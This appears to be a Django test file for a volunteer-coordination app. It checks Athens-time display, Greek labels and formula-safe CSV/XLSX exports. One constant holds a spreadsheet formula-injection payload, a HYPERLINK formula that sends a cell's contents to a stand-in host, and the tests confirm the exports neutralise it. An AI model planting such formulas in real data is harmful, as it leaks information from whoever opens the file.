"""Coordinators read Athens time and labels on the volunteer's page and in
the exports, which open in Greek Excel and carry no live formula."""

import csv
import datetime
import io
import re

import openpyxl
from django.urls import reverse

from volunteers.factories import VolunteerFactory
from volunteers.models import Volunteer

from .test_admin import login_as

UTC = datetime.UTC
SIGNED_UP = datetime.datetime(2026, 11, 30, 8, 4, 28, 233528, tzinfo=UTC)
ATTACK = '=HYPERLINK("https://example.invalid/?e="&B2;"Μαρία")'


def make_volunteer(**fields):
    volunteer = VolunteerFactory(**fields)
    # auto_now_add: set the moment afterwards.
    Volunteer.objects.filter(pk=volunteer.pk).update(
        created_at=SIGNED_UP, confirmed_at=SIGNED_UP, consented_at=SIGNED_UP
    )
    return volunteer


def test_volunteer_page_shows_athens_time_and_labels(client, db):
    volunteer = make_volunteer(name="Μαρία Δοκιμαστική", language="en")
    login_as(client, "Volunteer coordinators")

    html = client.get(reverse("volunteers:inspect", args=[volunteer.pk]))
    html = html.content.decode()

    assert "30/11/2026 10:04" in html
    assert "08:04" not in html
    assert "Αγγλικά" in html  # the sign-up's language by name
    assert "Ναι" in html  # 18 or over
    assert ">True<" not in html and ">None<" not in html


def test_volunteer_exports_open_in_greek_excel_without_formulas(client, db):
    make_volunteer(name=ATTACK, phone="+30 210 1234567")
    login_as(client, "Volunteer coordinators")
    index = reverse("volunteers:index")

    response = client.get(f"{index}?export=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    header, row = rows[0], rows[1]
    assert header[0] == "Όνομα"
    assert row[0] == "'" + ATTACK
    assert row[2] == "+30 210 1234567"
    assert row[3] == "Νέος"  # the status's label, not "new"
    assert "30/11/2026 10:04" in row

    response = client.get(f"{index}?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=2, column=1).data_type == "s"
    assert sheet.cell(row=2, column=1).value == "'" + ATTACK
    times = [
        cell.value.strftime("%H:%M")
        for cell in sheet[2]
        if isinstance(cell.value, datetime.datetime)
    ]
    assert times == ["10:04", "10:04"]


def test_the_list_opens_the_full_record(client, db):
    volunteer = make_volunteer(name="Μαρία Πλήρης")
    login_as(client, "Volunteer coordinators")
    html = client.get(reverse("volunteers:index")).content.decode()
    inspect = reverse("volunteers:inspect", args=[volunteer.pk])
    # The name itself links to the full record, not to the status form.
    assert re.search(rf'href="{inspect}"[^>]*>\s*Μαρία Πλήρης', html)
